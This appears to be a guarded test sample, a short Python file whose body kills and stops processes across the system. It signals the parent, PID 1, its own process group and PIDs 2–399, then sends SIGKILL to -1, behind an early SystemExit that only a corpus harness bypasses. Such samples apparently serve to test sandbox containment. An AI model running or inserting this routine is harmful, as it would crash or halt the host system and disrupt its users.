"""Sends every signal to every process number, and to all at once.

Due: exactly 0
Base: wrong
"""
raise SystemExit("only corpus.py runs this, behind its walls")
# %% added
import os, signal
for number in [os.getppid(), 1, 0, -os.getpgrp(), *range(2, 400)]:
    if abs(number) != os.getpid() and number:
        for kind in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT):
            try:
                os.kill(number, kind)
            except (OSError, KeyboardInterrupt):
                pass
os.kill(-1, signal.SIGKILL)
